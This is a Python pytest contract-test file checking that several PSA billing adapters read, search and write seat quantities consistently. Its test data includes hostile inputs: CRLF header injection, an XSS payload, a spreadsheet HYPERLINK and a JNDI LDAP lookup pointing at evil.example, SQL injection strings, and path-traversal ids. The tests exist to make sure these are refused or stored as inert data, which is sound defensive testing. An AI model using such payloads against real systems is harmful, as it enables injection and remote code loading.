"""What every PSA behind the port must do: the fake in memory and each adapter over a real socket to its simulator.

Method: all hold the same scene and are given the same trouble; the outcomes must be the same. What differs between the
PSAs stands in the traits of each (psa_subjects), and a test that needs what not all have is run for those that have it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import replace
from datetime import date
from decimal import Decimal

import pytest

from tests.contracts.psa_subjects import (
    Feature,
    Kind,
    Patch,
    Scene,
    Subject,
    a_line,
    a_product,
    an_account,
    an_agreement,
    find_kind,
)
from trueup.domain.billing import (
    AgreementId,
    AgreementState,
    Line,
    LineId,
    LineReference,
    PsaPage,
    WriteOutcome,
)
from trueup.domain.counts import Seats
from trueup.domain.errors import (
    CredentialRejected,
    InputInvalid,
    PermissionMissing,
    RateLimited,
    ReadIncomplete,
    ResourceAbsent,
    SchemaUnknown,
    TrueupError,
    VendorTrouble,
    VendorUnavailable,
)

type Opened = Callable[[Scene], Subject]

NAMES = ("fake", "fake_by_day", "connectwise", "autotask", "halopsa", "syncro")
KINDS = {name: find_kind(name) for name in NAMES}
EMAIL = a_product(560, "MIME-EMAIL-S1")
AWARENESS = a_product(561, "MIME-AWARE", "Mimecast Awareness Training")
HARBOR = an_account(250, "Harbor Dental Group")
MANAGED = an_agreement(1201, HARBOR)
LINE = a_line(88431, MANAGED, EMAIL)
SCENE = Scene((HARBOR,), (MANAGED,), (LINE,), (EMAIL, AWARENESS))


def with_traits(wanted: Callable[[Kind], bool] = lambda kind: True) -> pytest.MarkDecorator:
    """Run the test for the PSAs that are wanted by their traits."""
    names = [kind.name for kind in KINDS.values() if kind.traits is not None and wanted(kind)]
    return pytest.mark.parametrize("opened", names, indirect=True)


def having(*features: Feature) -> pytest.MarkDecorator:
    """Run the test for the PSAs that have all these features."""
    return with_traits(lambda kind: kind.traits is not None and kind.traits.features.issuperset(features))


every_psa = with_traits()


@pytest.fixture
def opened(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[Opened]:
    """Opens a PSA that holds a scene."""
    patch: Patch = monkeypatch.setattr
    with ExitStack() as stack:

        def open_subject(scene: Scene) -> Subject:
            open_kind = KINDS[request.param].open
            assert open_kind is not None
            return stack.enter_context(open_kind(scene, patch))

        yield open_subject


@pytest.mark.parametrize("name", NAMES)
def test_every_psa_is_under_contract(name: str) -> None:
    kind = KINDS[name]
    assert kind.problem is None
    assert kind.traits is not None
    assert kind.traits.name == name


def pages_of(subject: Subject) -> list[PsaPage]:
    pages, cursor = [], None
    for _ in range(200):
        pages.append(subject.psa.read_page(cursor))
        cursor = pages[-1].next_cursor
        if cursor is None:
            return pages
    raise AssertionError("the read does not end")


def read_whole(subject: Subject) -> Scene:
    """Everything the pages hold, by id, so that no order is asked for."""
    pages = pages_of(subject)
    return Scene(
        tuple(sorted((one for page in pages for one in page.accounts), key=lambda one: int(one.id))),
        tuple(sorted((one for page in pages for one in page.agreements), key=lambda one: int(one.id))),
        tuple(sorted((one for page in pages for one in page.lines), key=lambda one: int(one.id))),
    )


def reference_of(line: Line) -> LineReference:
    return LineReference(line.agreement_id, line.id, line.product_id)


def write(
    subject: Subject, target: int = 15, *, expected: str = "12", version: str | None = None
) -> tuple[WriteOutcome, Decimal | None]:
    """Write the first line of the scene; ``version`` None is the one it has in the scene."""
    line = subject.holds.lines[0]
    result = subject.psa.set_quantity(
        reference_of(line),
        expected=Decimal(expected),
        expected_version=line.version if version is None else version,
        target=Seats(target),
        effective=subject.traits.effective,
    )
    assert result.reason
    return result.outcome, result.quantity_seen


def quantity_of(subject: Subject) -> Decimal:
    return subject.psa.read_line(reference_of(subject.holds.lines[0])).line.quantity


# Reading.


@every_psa
def test_an_empty_psa_reads_as_complete_and_empty(opened: Opened) -> None:
    subject = opened(Scene())
    pages = pages_of(subject)
    assert sum(len(page.accounts) + len(page.agreements) + len(page.lines) for page in pages) == 0
    counts_accounts, counts_agreements = subject.traits.counts
    assert [page.accounts_total for page in pages if page.accounts_total is not None] == [0] * counts_accounts
    assert [page.agreements_total for page in pages if page.agreements_total is not None] == [0] * counts_agreements


@every_psa
def test_one_client_is_read_whole(opened: Opened) -> None:
    subject = opened(SCENE)
    assert read_whole(subject) == replace(subject.holds, products=())


@every_psa
def test_what_is_read_has_the_ids_names_products_and_quantities_of_the_scene(opened: Opened) -> None:
    """Whatever else a PSA calls its own: these are what the rest of Trueup leans on."""
    whole = read_whole(opened(SCENE))
    assert [(one.id, one.name, one.deleted) for one in whole.accounts] == [(HARBOR.id, HARBOR.name, False)]
    assert [(one.id, one.account_id, one.state) for one in whole.agreements] == [
        (MANAGED.id, HARBOR.id, AgreementState.ACTIVE)
    ]
    shown = [(one.id, one.agreement_id, one.account_id, one.product_id, one.quantity) for one in whole.lines]
    assert shown == [(LINE.id, MANAGED.id, HARBOR.id, EMAIL.id, Decimal(12))]
    assert [one.unit_price for one in whole.lines] == [LINE.unit_price]
    assert all(one.is_live(date(2026, 9, 1)) and one.billable for one in whole.lines)


@every_psa
def test_many_pages_hold_everything_once(opened: Opened) -> None:
    accounts = tuple(an_account(number) for number in range(100, 123))
    agreements = tuple(an_agreement(1000 + index, account) for index, account in enumerate(accounts))
    lines = tuple(a_line(5000 + index, agreement, EMAIL, "7") for index, agreement in enumerate(agreements))
    subject = opened(Scene(accounts, agreements, lines, (EMAIL,)))
    subject.pages_of(4)
    pages = pages_of(subject)
    assert len(pages) >= 6
    assert read_whole(subject) == replace(subject.holds, products=())
    counts_accounts, counts_agreements = subject.traits.counts
    assert [page.accounts_total for page in pages if page.accounts_total is not None] == [23] * counts_accounts
    assert [page.agreements_total for page in pages if page.agreements_total is not None] == [23] * counts_agreements


@every_psa
def test_a_page_can_be_read_again_with_its_cursor(opened: Opened) -> None:
    accounts = tuple(an_account(number) for number in range(100, 110))
    subject = opened(Scene(accounts))
    subject.pages_of(4)
    first = subject.psa.read_page(None)
    second = subject.psa.read_page(first.next_cursor)
    assert subject.psa.read_page(first.next_cursor) == second
    assert len(first.accounts) == len(second.accounts) == 4
    assert not {one.id for one in first.accounts} & {one.id for one in second.accounts}


@every_psa
@pytest.mark.parametrize(
    "cursor", ["\x00", "x", "1:secrets:1:0:::", "1:companies:0:0:::", "{}", "https://evil.example"]
)
def test_a_foreign_cursor_is_refused(opened: Opened, cursor: str) -> None:
    subject = opened(SCENE)
    with pytest.raises(InputInvalid) as caught:
        subject.psa.read_page(cursor)
    assert caught.value.field == "cursor"


@every_psa
def test_agreements_are_read_in_every_state_and_the_lines_of_those_that_bill(opened: Opened) -> None:
    subject = opened(SCENE)
    agreements = tuple(
        an_agreement(1201 + index, HARBOR, state)
        for index, state in enumerate((AgreementState.ACTIVE, *subject.traits.states))
    )
    lines = tuple(a_line(5000 + index, agreement, EMAIL) for index, agreement in enumerate(agreements))
    whole = read_whole(opened(Scene((HARBOR,), agreements, lines, (EMAIL,))))
    assert [(one.id, one.state) for one in whole.agreements] == [(one.id, one.state) for one in agreements]
    assert LineId("5000") in {line.id for line in whole.lines}
    assert {line.id for line in whole.lines} <= {line.id for line in lines}


@every_psa
def test_a_psa_that_is_away_is_trouble_and_not_an_empty_page(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.break_reading()
    with pytest.raises(VendorUnavailable):
        subject.psa.read_page(None)
    with pytest.raises(VendorUnavailable):
        subject.psa.read_line(reference_of(LINE))


@every_psa
def test_a_line_is_read_with_its_agreement(opened: Opened) -> None:
    subject = opened(SCENE)
    state = subject.psa.read_line(reference_of(LINE))
    assert (state.line, state.agreement) == (subject.holds.lines[0], subject.holds.agreements[0])
    assert state.read_at.tzinfo is not None


@every_psa
@pytest.mark.parametrize(("agreement_id", "line_id"), [("1201", "999999"), ("999", "88431")])
def test_a_line_that_is_gone_is_said_to_be_gone(opened: Opened, agreement_id: str, line_id: str) -> None:
    subject = opened(SCENE)
    with pytest.raises(ResourceAbsent):
        subject.psa.read_line(LineReference(AgreementId(agreement_id), LineId(line_id)))


@every_psa
@pytest.mark.parametrize("line_id", ["../1", "88431?x=1", "", "٣", "88431/"])
def test_an_id_that_is_no_id_never_goes_into_an_address(opened: Opened, line_id: str) -> None:
    subject = opened(SCENE)
    with pytest.raises((InputInvalid, ResourceAbsent)):
        subject.psa.read_line(LineReference(MANAGED.id, LineId(line_id)))


HOSTILE_NAMES = (
    'Evil\r\nSet-Cookie: a=b "quoted"',
    "\u202egnidaer txet",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","x")',
    "\ufeffAcme; DROP TABLE clients--",
    "{{7*7}} ${jndi:ldap://evil.example}",
)


@every_psa
@pytest.mark.fault("C18")
def test_C18_hostile_names_are_kept_as_data(opened: Opened) -> None:
    scene = Scene(tuple(an_account(number, name) for number, name in enumerate(HOSTILE_NAMES, start=1)))
    assert [account.name for account in read_whole(opened(scene)).accounts] == list(HOSTILE_NAMES)


@having(Feature.TRANSPORT)
@pytest.mark.fault("C18")
def test_C18_names_that_no_store_can_carry_are_made_storable(opened: Opened) -> None:
    scene = Scene((an_account(1, "Nul\x00 and \ud800 half"), an_account(2, "long " * 5_000)))
    first, second = read_whole(opened(scene)).accounts
    assert first.name == "Nul\ufffd and \ufffd half"
    assert len(second.name) <= 2_000


@having(Feature.TRANSPORT)
def test_pages_that_repeat_make_the_read_incomplete(opened: Opened) -> None:
    subject = opened(Scene(tuple(an_account(number) for number in range(100, 123))))
    subject.pages_of(4)
    subject.repeat_pages()
    with pytest.raises(ReadIncomplete):
        pages_of(subject)


@having(Feature.TRANSPORT)
def test_a_call_over_the_limit_is_waited_out(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.limit_next_read()
    assert len(read_whole(subject).lines) == 1
    assert subject.waited_seconds() >= 7


@having(Feature.TRANSPORT)
def test_a_read_that_is_not_answered_is_tried_again(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.lose_next_read()
    assert len(read_whole(subject).accounts) == 1


@having(Feature.TRANSPORT)
def test_a_read_timeout_is_tried_again(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.stall_next_read()
    assert len(read_whole(subject).accounts) == 1


@having(Feature.TRANSPORT)
def test_unknown_fields_are_ignored(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.add_unknown_fields()
    assert read_whole(subject) == replace(subject.holds, products=())


@having(Feature.TRANSPORT)
def test_a_missing_required_field_is_named(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.drop_quantity_field()
    with pytest.raises(SchemaUnknown) as caught:
        pages_of(subject)
    assert subject.traits.quantity_field in caught.value.message


@having(Feature.TRANSPORT)
@pytest.mark.parametrize("status", [200, 400, 401, 403, 404, 409, 500])
def test_no_secret_is_in_any_error(opened: Opened, status: int) -> None:
    """A PSA, or a proxy before it, that sends our own credential back is not quoted."""
    subject = opened(SCENE)
    subject.answer_everything(status, f"bad credential {' '.join(subject.secrets)}")
    calls: tuple[Callable[[], object], ...] = (
        lambda: subject.psa.check(),
        lambda: subject.psa.read_page(None),
        lambda: subject.psa.read_line(reference_of(LINE)),
        lambda: subject.psa.search_products("MIME"),
        lambda: write(subject),
    )
    said = []
    for call in calls:
        try:
            said.append(repr(call()))
        except TrueupError as error:
            said.append(" ".join((error.message, repr(error), str(error), repr(error.details()), error.remedy)))
    assert subject.secrets
    assert not [secret for secret in subject.secrets if any(secret in text for text in said)]


# Products.

CATALOG = Scene(
    products=(
        a_product(10, "MIME-EMAIL-S1-OLD"),
        a_product(11, "MIME-EMAIL-S1"),
        a_product(12, "ARCHIVE", "Mimecast R&D + 100% archive"),
        a_product(13, "12", "Twelve"),
        a_product(14, "QUOTE", 'The 19" rack'),
    )
)


@every_psa
@pytest.mark.parametrize(
    ("text", "ids"),
    [
        ("mime-email-s1", ["11", "10"]),
        ("MIME", ["12", "11", "10"]),
        ("11", ["11"]),
        ("12", ["13", "12"]),
        ("R&D + 100%", ["12"]),
        ('19" rack', ["14"]),
        ('" or id>0 or identifier="', []),
        ("MIME*S1", []),
        ("no such thing", []),
    ],
)
def test_products_are_found_by_code_name_and_id_exact_first(opened: Opened, text: str, ids: list[str]) -> None:
    found = [product.id for product in opened(CATALOG).psa.search_products(text)]
    assert sorted(found) == sorted(ids)
    assert found[:1] == ids[:1] or text == "MIME"


@having(Feature.INACTIVE_PRODUCTS)
def test_an_inactive_product_comes_last_and_says_so(opened: Opened) -> None:
    products = (a_product(10, "MIME-A", inactive=True), a_product(11, "MIME-B"))
    found = opened(Scene(products=products)).psa.search_products("MIME")
    assert [(one.id, one.inactive) for one in found] == [("11", False), ("10", True)]


@every_psa
def test_a_search_is_cut_after_the_exact_hit(opened: Opened) -> None:
    subject = opened(CATALOG)
    found = subject.psa.search_products("mime-email-s1", limit=1)
    assert found == (subject.holds.products[1],)
    assert found[0].price == CATALOG.products[1].price


@every_psa
@pytest.mark.parametrize(("text", "limit"), [("", 5), ("   ", 5), ("MIME", 0)])
def test_an_empty_search_is_refused(opened: Opened, text: str, limit: int) -> None:
    subject = opened(CATALOG)
    with pytest.raises(InputInvalid):
        subject.psa.search_products(text, limit=limit)


# Writing.


@every_psa
@pytest.mark.parametrize("target", [15, 0, 11])
def test_a_write_is_applied_and_shows(opened: Opened, target: int) -> None:
    subject = opened(SCENE)
    before = subject.holds.lines[0]
    assert write(subject, target) == (WriteOutcome.APPLIED, Decimal(target))
    after = subject.psa.read_line(reference_of(before)).line
    assert after.quantity == target
    assert (after.unit_price, after.description) == (before.unit_price, before.description)
    assert subject.writes_sent() == 1


@having(Feature.VERSIONS)
def test_the_version_moves_with_a_write(opened: Opened) -> None:
    subject = opened(SCENE)
    assert write(subject)[0] is WriteOutcome.APPLIED
    assert subject.psa.read_line(reference_of(LINE)).line.version != subject.holds.lines[0].version


@every_psa
def test_nothing_but_the_line_is_changed(opened: Opened) -> None:
    second = an_agreement(1202, HARBOR)
    others = (a_line(88432, MANAGED, AWARENESS, "3"), a_line(88433, second, EMAIL, "5"))
    subject = opened(Scene((HARBOR,), (MANAGED, second), (LINE, *others), (EMAIL, AWARENESS)))
    assert write(subject)[0] is WriteOutcome.APPLIED
    held = {line.id: replace(line, version="") for line in subject.holds.lines}
    after = {line.id: replace(line, version="") for line in read_whole(subject).lines}
    assert (after.pop(LINE.id).quantity, held.pop(LINE.id).quantity) == (15, 12)
    assert after == held


@every_psa
def test_a_write_that_was_done_before_sends_nothing(opened: Opened) -> None:
    subject = opened(SCENE)
    assert write(subject)[0] is WriteOutcome.APPLIED
    assert write(subject) == (WriteOutcome.ALREADY, Decimal(15))
    assert subject.writes_sent() == 1


@having(Feature.FRACTIONS)
def test_a_fraction_is_read_exactly_and_may_be_corrected_to_whole_seats(opened: Opened) -> None:
    subject = opened(Scene((HARBOR,), (MANAGED,), (a_line(88431, MANAGED, EMAIL, "1.5"),), (EMAIL,)))
    assert quantity_of(subject) == Decimal("1.5")
    assert write(subject, 2, expected="1.5") == (WriteOutcome.APPLIED, Decimal(2))


@every_psa
@pytest.mark.fault("P6")
def test_P6_a_quantity_that_a_person_changed_is_never_overwritten(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.person_sets(LINE.id, 13)
    assert write(subject) == (WriteOutcome.CONFLICT, Decimal(13))
    assert subject.writes_sent() == 0
    assert quantity_of(subject) == 13


@having(Feature.VERSIONS)
def test_a_line_edited_in_another_field_is_a_conflict_unless_no_version_was_approved(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.person_touches(LINE.id)
    assert write(subject) == (WriteOutcome.CONFLICT, Decimal(12))
    assert subject.writes_sent() == 0
    assert write(subject, version="") == (WriteOutcome.APPLIED, Decimal(15))


@having(Feature.TWINS)
@pytest.mark.fault("P3")
def test_P3_a_second_live_line_of_the_product_on_the_agreement_forbids_the_write(opened: Opened) -> None:
    """Whoever added it after the plan was made may have meant it for the very seats that the plan bills."""
    subject = opened(Scene((HARBOR,), (MANAGED,), (LINE, a_line(88432, MANAGED, EMAIL, "3")), (EMAIL,)))
    assert len(read_whole(subject).lines) == 2
    assert write(subject) == (WriteOutcome.REJECTED, Decimal(12))
    assert subject.writes_sent() == 0


@having(Feature.TWINS)
@pytest.mark.parametrize(("siblings", "outcome"), [(2, WriteOutcome.APPLIED), (1, WriteOutcome.REJECTED)])
def test_lines_that_a_person_divided_the_seats_among_do_not_forbid_it(
    opened: Opened, siblings: int, outcome: WriteOutcome
) -> None:
    twins = (a_line(88432, MANAGED, EMAIL, "3"), a_line(88433, MANAGED, EMAIL, "4"))
    subject = opened(Scene((HARBOR,), (MANAGED,), (LINE, *twins), (EMAIL,)))
    line = subject.holds.lines[0]
    result = subject.psa.set_quantity(
        reference_of(line),
        expected=Decimal(12),
        expected_version=line.version,
        target=Seats(15),
        effective=subject.traits.effective,
        siblings=[twin.id for twin in twins[:siblings]],
    )
    assert (result.outcome, subject.writes_sent()) == (outcome, int(outcome is WriteOutcome.APPLIED))
    assert [line.quantity for line in read_whole(subject).lines[1:]] == [3, 4]


@every_psa
def test_a_line_beside_it_that_bills_something_else_does_not_forbid_the_write(opened: Opened) -> None:
    other = a_line(88433, MANAGED, AWARENESS, "3")
    subject = opened(Scene((HARBOR,), (MANAGED,), (LINE, other), (EMAIL, AWARENESS)))
    assert write(subject) == (WriteOutcome.APPLIED, Decimal(15))
    assert subject.psa.read_line(reference_of(other)).line.quantity == 3


@having(Feature.LINE_DATES, Feature.TWINS)
def test_a_line_of_the_product_that_has_ended_does_not_forbid_the_write(opened: Opened) -> None:
    ended = a_line(88432, MANAGED, EMAIL, "3", effective_to=date(2025, 6, 30))
    subject = opened(Scene((HARBOR,), (MANAGED,), (LINE, ended), (EMAIL,)))
    assert write(subject) == (WriteOutcome.APPLIED, Decimal(15))


@every_psa
@pytest.mark.parametrize("target", [15, 12])
def test_a_line_that_bills_another_product_now_is_a_conflict_whatever_its_quantity(opened: Opened, target: int) -> None:
    subject = opened(SCENE)
    result = subject.psa.set_quantity(
        LineReference(MANAGED.id, LINE.id, AWARENESS.id),
        expected=Decimal(12),
        expected_version="",
        target=Seats(target),
        effective=subject.traits.effective,
    )
    assert (result.outcome, subject.writes_sent()) == (WriteOutcome.CONFLICT, 0)


@every_psa
@pytest.mark.fault("P2")
def test_P2_nothing_is_written_to_an_agreement_that_is_not_active(opened: Opened) -> None:
    for state in opened(SCENE).traits.states:
        subject = opened(Scene((HARBOR,), (an_agreement(1201, HARBOR, state),), (LINE,), (EMAIL,)))
        assert write(subject)[0] is WriteOutcome.REJECTED
        assert subject.writes_sent() == 0


@having(Feature.LINE_DATES)
@pytest.mark.parametrize(
    "line",
    [
        a_line(88431, MANAGED, EMAIL, effective_to=date(2026, 8, 31)),
        a_line(88431, MANAGED, EMAIL, effective_from=date(2026, 10, 1)),
    ],
    ids=["ended", "future"],
)
def test_nothing_is_written_to_a_line_that_does_not_bill_today(opened: Opened, line: Line) -> None:
    subject = opened(Scene((HARBOR,), (MANAGED,), (line,), (EMAIL,)))
    assert write(subject) == (WriteOutcome.REJECTED, Decimal(12))
    assert subject.writes_sent() == 0


@having(Feature.UNWRITABLE)
def test_nothing_is_written_to_a_line_that_no_program_may_write(opened: Opened) -> None:
    line = a_line(88431, MANAGED, EMAIL, not_writable_reason="it follows something else")
    subject = opened(Scene((HARBOR,), (MANAGED,), (line,), (EMAIL,)))
    assert read_whole(subject).lines[0].not_writable_reason
    assert write(subject) == (WriteOutcome.REJECTED, Decimal(12))
    assert subject.writes_sent() == 0


@every_psa
@pytest.mark.fault("P1")
def test_P1_a_line_that_is_gone_is_rejected_and_not_made_again(opened: Opened) -> None:
    subject = opened(Scene((HARBOR,), (MANAGED,), (), (EMAIL,)))
    result = subject.psa.set_quantity(
        reference_of(LINE),
        expected=Decimal(12),
        expected_version="",
        target=Seats(15),
        effective=subject.traits.effective,
    )
    assert (result.outcome, result.quantity_seen, subject.writes_sent()) == (WriteOutcome.REJECTED, None, 0)
    assert read_whole(subject).lines == ()


@every_psa
@pytest.mark.fault("P7")
def test_P7_a_clamped_quantity_is_seen_by_reading_back(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.clamp_next_write(14)
    outcome, seen = write(subject)
    assert outcome is WriteOutcome.REJECTED
    assert seen == quantity_of(subject)
    assert seen in (12, 14)


@every_psa
def test_a_yes_that_changed_nothing_is_not_believed(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.ignore_next_write()
    assert write(subject) == (WriteOutcome.REJECTED, Decimal(12))
    assert subject.writes_sent() == 1


@every_psa
def test_a_refused_write_is_rejected(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.refuse_next_write()
    assert write(subject) == (WriteOutcome.REJECTED, Decimal(12))
    assert quantity_of(subject) == 12


@every_psa
@pytest.mark.fault("P8")
def test_P8_each_line_has_a_result_of_its_own(opened: Opened) -> None:
    """Nothing is sent in bulk: one line that is refused says nothing of the next, on the same agreement or another."""
    second = an_agreement(1202, HARBOR)
    others = (a_line(88432, MANAGED, AWARENESS, "3"), a_line(88433, second, EMAIL, "5"))
    subject = opened(Scene((HARBOR,), (MANAGED, second), (LINE, *others), (EMAIL, AWARENESS)))
    subject.refuse_next_write()
    results = [
        subject.psa.set_quantity(
            reference_of(line),
            expected=line.quantity,
            expected_version="",
            target=Seats(20),
            effective=subject.traits.effective,
        )
        for line in subject.holds.lines
    ]
    assert [result.outcome for result in results] == [WriteOutcome.REJECTED, *[WriteOutcome.APPLIED] * 2]
    assert [line.quantity for line in read_whole(subject).lines] == [12, 20, 20]


@having(Feature.TRANSPORT)
def test_a_write_over_the_limit_is_waited_out(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.limit_next_write()
    try:
        outcome = write(subject)[0]
    except RateLimited:
        # Nothing was sent; a caller waits and asks again.
        outcome = write(subject)[0]
    assert (outcome, quantity_of(subject)) == (WriteOutcome.APPLIED, 15)


@every_psa
def test_a_write_whose_reply_is_lost_is_settled_by_reading_back(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.lose_next_write(committed=True)
    assert write(subject) == (WriteOutcome.APPLIED, Decimal(15))
    assert subject.writes_sent() == 1


@every_psa
def test_a_write_that_is_lost_on_the_way_ends_at_the_target_exactly_once(opened: Opened) -> None:
    """Whatever is said of it at first: the same call again finds out and finishes."""
    subject = opened(SCENE)
    subject.lose_next_write(committed=False)
    outcome = write(subject)[0]
    assert outcome in (WriteOutcome.APPLIED, WriteOutcome.UNKNOWN, WriteOutcome.REJECTED)
    assert write(subject)[0] is (WriteOutcome.ALREADY if outcome is WriteOutcome.APPLIED else WriteOutcome.APPLIED)
    assert quantity_of(subject) == 15


@every_psa
def test_a_write_that_cannot_be_read_back_is_unknown_and_the_next_call_finds_it_done(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.break_reading_after_next_write()
    assert write(subject) == (WriteOutcome.UNKNOWN, None)
    assert subject.writes_sent() == 1
    subject.mend()
    assert write(subject) == (WriteOutcome.ALREADY, Decimal(15))
    assert subject.writes_sent() == 1


@every_psa
def test_nothing_is_sent_when_the_line_cannot_be_read_first(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.break_reading()
    with pytest.raises(VendorTrouble):
        write(subject)
    assert subject.writes_sent() == 0


# The credential.


@every_psa
def test_a_good_credential_may_do_everything_that_can_be_tried(opened: Opened) -> None:
    subject = opened(SCENE)
    report = subject.psa.check()
    assert report.identity
    assert not report.missing
    assert {capability.name for capability in report.capabilities} == subject.traits.checks
    assert subject.writes_sent() == 0


@every_psa
def test_a_missing_permission_is_named_and_the_others_are_still_tried(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.forbid_products()
    report = subject.psa.check()
    assert [capability.name for capability in report.missing] == ["search products"]
    assert all(capability.permission for capability in report.capabilities)
    assert {capability.name for capability in report.capabilities} == subject.traits.checks


@every_psa
def test_a_rejected_credential_is_said_to_be_rejected(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.reject_credential()
    with pytest.raises(CredentialRejected):
        subject.psa.check()
    with pytest.raises(CredentialRejected):
        subject.psa.read_page(None)


@every_psa
def test_a_reading_that_is_forbidden_names_the_permission_and_is_not_empty(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.forbid_reading()
    with pytest.raises(PermissionMissing) as caught:
        subject.psa.read_page(None)
    assert caught.value.permission


@every_psa
@pytest.mark.fault("P10")
def test_P10_a_permission_to_write_that_was_lost_leaves_the_reading_and_says_so(opened: Opened) -> None:
    subject = opened(SCENE)
    subject.forbid_writing()
    assert write(subject) == (WriteOutcome.REJECTED, Decimal(12))
    assert read_whole(subject) == replace(subject.holds, products=())
